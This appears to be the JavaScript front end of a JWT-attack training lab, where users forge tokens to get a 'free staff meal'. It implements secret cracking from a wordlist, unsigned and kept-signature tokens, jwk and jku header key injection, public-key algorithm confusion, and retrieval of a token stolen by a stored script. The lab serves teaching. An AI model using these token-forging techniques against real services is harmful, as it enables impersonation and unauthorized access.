/**
 * The forge of a lab's page: take a card apart, change it, sign it again (or not),
 * and show the same order to the broken waiter and to the real one.
 *
 * The lab's cards are the page's to read: they are not the site's real card, which
 * stays in its httpOnly cookie. Every call is written on the waiter's notepad.
 */
import { callApi } from "../js/api.js";
import { b64url, b64urlJson, jsonFromB64url, signHs256, signedWith, utf8 } from "./hs256.js";

const forge = document.querySelector("[data-forge]");
const lab = forge.dataset.lab;
const field = (name) => forge.querySelector(`[data-${name}]`);
const [cardField, headerField, payloadField, signing, secretField] = [
  "card", "header", "payload", "signing", "secret",
].map(field);
const errorBox = field("forge-error");

function showError(message) {
  errorBox.textContent = message;
  errorBox.hidden = !message;
}

function currentCard() {
  return cardField.value.trim();
}

/** Fill the header and payload fields from the card. */
function takeApart() {
  showError("");
  const parts = currentCard().split(".");
  if (parts.length !== 3) {
    showError("A JWT is three base64url parts joined by two dots.");
    return false;
  }
  try {
    headerField.value = JSON.stringify(jsonFromB64url(parts[0]), null, 2);
    payloadField.value = JSON.stringify(jsonFromB64url(parts[1]), null, 2);
  } catch {
    showError("The header or the payload is not base64url JSON.");
    return false;
  }
  return true;
}

function readJson(textarea, what) {
  try {
    const value = JSON.parse(textarea.value);
    if (value && typeof value === "object" && !Array.isArray(value)) return value;
  } catch {
    // Reported below.
  }
  throw new Error(`The ${what} is not a JSON object.`);
}

/** Put the card back together from the fields, signed as chosen. */
function build() {
  showError("");
  let header;
  let claims;
  try {
    header = readJson(headerField, "header");
    claims = readJson(payloadField, "payload");
  } catch (error) {
    showError(error.message);
    return false;
  }
  if (signing.value === "hs256") {
    cardField.value = signHs256(header, claims, utf8(secretField.value));
  } else {
    const [oldHeader, oldPayload, oldSignature] = currentCard().split(".");
    const signature = signing.value === "keep" ? oldSignature ?? "" : "";
    cardField.value = `${encoded(header, oldHeader)}.${encoded(claims, oldPayload)}.${signature}`;
  }
  return true;
}

/** A part of the card as base64url JSON: the card's own bytes if it is unchanged. */
function encoded(value, oldPart) {
  try {
    if (JSON.stringify(jsonFromB64url(oldPart)) === JSON.stringify(value)) return oldPart;
  } catch {
    // Not a part of a card: encode the value.
  }
  return b64urlJson(value);
}

function editHeader(change) {
  if (!headerField.value.trim() && !takeApart()) return null;
  const header = readJson(headerField, "header");
  change(header);
  headerField.value = JSON.stringify(header, null, 2);
  return header;
}

function randomSecret() {
  const bytes = new Uint8Array(24);
  crypto.getRandomValues(bytes);
  return `my-own-key-${b64url(bytes)}`;
}

function useSecret(secret) {
  secretField.value = secret;
  signing.value = "hs256";
}

function orderBody() {
  return {
    items: [{ menu_item: Number(forge.dataset.dish), quantity: 1 }],
    delivery_address: `The lab, ${forge.dataset.table}'s table`,
  };
}

function showAnswer(which, answer) {
  const box = forge.querySelector(`[data-answer="${which}"]`);
  const served = answer.status === 201;
  box.classList.toggle("waiter-served", served);
  box.classList.toggle("waiter-refused", !served);
  let words = `${answer.status}: `;
  if (served) {
    words += answer.data?.staff_meal ? "served a staff meal, free. Fooled!" : "served a paid meal (a customer's card).";
  } else if (answer.status === 401) {
    words += "refused the card.";
  } else {
    words += "no meal.";
  }
  box.querySelector("[data-status]").textContent = words;
  const body = box.querySelector("[data-body]");
  body.textContent = JSON.stringify(answer.data, null, 2);
  body.hidden = false;
}

async function refreshProgress() {
  const answer = await callApi("GET", "/lab/progress/");
  const solved = Boolean(answer.ok && answer.data?.solved?.[lab]);
  document.querySelector("[data-solved-mark]").hidden = !solved;
  field("solved-box").hidden = !solved;
}

async function send() {
  showError("");
  const card = currentCard();
  if (!card) {
    showError("There is no card to show yet.");
    return;
  }
  // A request without an Authorization header first: it renews the real card in
  // the cookie if it expired, and the lab knows your table by that card.
  await callApi("GET", "/lab/progress/");
  const body = orderBody();
  showAnswer("broken", await callApi("POST", `/lab/${lab}/orders/`, { body, bearer: card }));
  showAnswer("real", await callApi("POST", "/api/orders/", { body, bearer: card }));
  await refreshProgress();
}

async function getCard() {
  const answer = await callApi("POST", `/lab/${lab}/card/`);
  if (!answer.ok) {
    showError("The lab's desk did not hand out a card: are you logged in?");
    return;
  }
  cardField.value = answer.data.card;
  signing.value = "keep";
  takeApart();
}

async function crack() {
  const card = currentCard();
  if (card.split(".").length !== 3) {
    showError("Get the lab's card first: its signature is what the words are tried against.");
    return;
  }
  const words = (await (await fetch(forge.dataset.wordlist)).text()).split(/\s+/).filter(Boolean);
  const started = performance.now();
  const index = words.findIndex((word) => signedWith(card, utf8(word)));
  const took = Math.round(performance.now() - started);
  if (index < 0) {
    showError(`None of the ${words.length} words made this card's signature.`);
    return;
  }
  useSecret(words[index]);
  const found = field("crack-result") ?? document.createElement("span");
  found.dataset.crackResult = "";
  found.className = "help";
  found.textContent = `Found "${words[index]}" after ${index + 1} of ${words.length} words, in ${took} ms.`;
  forge.querySelector('[data-tool="crack"]').after(" ", found);
}

function ownJwk() {
  const secret = randomSecret();
  editHeader((header) => {
    header.alg = "HS256";
    header.jwk = { kty: "oct", k: b64url(utf8(secret)) };
  });
  useSecret(secret);
}

async function publishJku() {
  const secret = randomSecret();
  const keys = { keys: [{ kty: "oct", kid: "mine", k: b64url(utf8(secret)) }] };
  const answer = await callApi("PUT", "/lab/jku/keys/", { body: keys });
  if (!answer.ok) {
    showError("The key set was not published.");
    return;
  }
  editHeader((header) => {
    header.alg = "HS256";
    header.jku = `${window.location.origin}/lab/jku/${forge.dataset.table}/jwks.json`;
    header.kid = "mine";
  });
  useSecret(secret);
}

async function publicKey() {
  const pem = await (await fetch("/lab/algorithm-confusion/public.pem")).text();
  editHeader((header) => {
    header.alg = "HS256";
  });
  useSecret(pem);
}

async function saveReview() {
  await callApi("PUT", "/lab/stolen-from-storage/review/", { body: { text: field("review").value } });
}

async function loot() {
  const answer = await callApi("GET", "/lab/stolen-from-storage/loot/");
  const report = field("loot");
  if (!answer.ok || !answer.data.received_at) {
    report.textContent = "The drop box is empty.";
    return;
  }
  const cookies = answer.data.cookie_names.length ? answer.data.cookie_names.join(", ") : "none";
  report.textContent = answer.data.card
    ? `The script sent the chef's card (now in the card field), and the names of the cookies it could read: ${cookies}.`
    : `The script sent no lab card; the cookies it could read: ${cookies}.`;
  if (answer.data.card) {
    cardField.value = answer.data.card;
    signing.value = "keep";
    takeApart();
  }
}

async function loadReview() {
  const answer = await callApi("GET", "/lab/stolen-from-storage/review/");
  if (answer.ok) field("review").value = answer.data.text;
}

const TOOLS = {
  crack,
  "own-jwk": ownJwk,
  "publish-jku": publishJku,
  "public-key": publicKey,
  "save-review": saveReview,
  loot,
};

function guarded(action) {
  return async () => {
    try {
      await action();
    } catch (error) {
      showError(error.message);
    }
  };
}

field("get-card")?.addEventListener("click", guarded(getCard));
field("decode").addEventListener("click", () => takeApart());
field("build").addEventListener("click", () => build());
field("send").addEventListener("click", guarded(send));
for (const button of forge.querySelectorAll("[data-tool]")) {
  button.addEventListener("click", guarded(TOOLS[button.dataset.tool]));
}
if (field("review")) guarded(loadReview)();
